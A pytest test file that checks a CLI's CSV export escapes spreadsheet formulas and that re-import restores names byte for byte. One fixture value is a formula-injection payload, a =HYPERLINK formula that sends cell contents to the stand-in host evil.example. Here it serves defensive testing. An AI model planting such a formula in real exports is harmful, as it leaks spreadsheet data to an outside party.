"""`bridge mappings export` writes no cell a spreadsheet would run, and `import` reads the file
back exactly: names that start like formulas (or already with a quote) survive byte for byte."""

from __future__ import annotations

from pathlib import Path

import pytest

from bridge.db import session_scope
from bridge.dev.sandbox import Sandbox
from mappings import repository
from tests.cli.test_mappings import (  # noqa: F401  (pancake_url and sandbox are fixtures)
    choices,
    pancake_url,
    trail,
)
from tests.cli.test_mappings_csv import exported, rows_of
from tests.cli.test_orders import run, sandbox  # noqa: F401  (sandbox is a fixture)
from tests.e2e.world import CHATGPT, NETFLIX, SPOTIFY

NAMES = {
    NETFLIX: '=HYPERLINK("http://evil.example/?leak="&B2&C2,"Netflix")',
    SPOTIFY: "'-Spotify (a name that really starts with a quote)",
    CHATGPT: "-50% ChatGPT Plus",
}


def names(world: Sandbox) -> dict[str, str | None]:
    with session_scope(world.runtime.engine) as session:
        return {v.choice.variation_id: v.name for v in repository.list_choices(session)}


def test_formula_names_are_neutralised_on_export_and_exact_after_import(
    sandbox: Sandbox,  # noqa: F811
    capsys: pytest.CaptureFixture[str],
    tmp_path: Path,
) -> None:
    for variation, name in NAMES.items():
        code, _, err = run(capsys, "mappings", "edit", "--variation", variation, "--name", name)
        assert code == 0, err
    before = names(sandbox)
    assert {variation: before[variation] for variation in NAMES} == NAMES

    first = exported(capsys, tmp_path / "mappings.csv")
    cells = {row["variation_id"]: row["name"] for row in rows_of(first)}
    assert cells[NETFLIX] == "'" + NAMES[NETFLIX], "a formula is written as text"
    assert cells[SPOTIFY] == "''-Spotify (a name that really starts with a quote)"
    assert cells[CHATGPT] == "'-50% ChatGPT Plus"
    live = [cell for row in rows_of(first) for cell in row.values()]
    assert not [c for c in live if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]

    changes = len(trail(sandbox))
    code, out, err = run(capsys, "mappings", "import", str(tmp_path / "mappings.csv"))
    assert (code, err) == (0, "")
    assert "nothing to change" in out
    assert len(trail(sandbox)) == changes, "an exported file changes nothing"
    assert names(sandbox) == before, "every name byte for byte"
    assert exported(capsys, tmp_path / "again.csv") == first
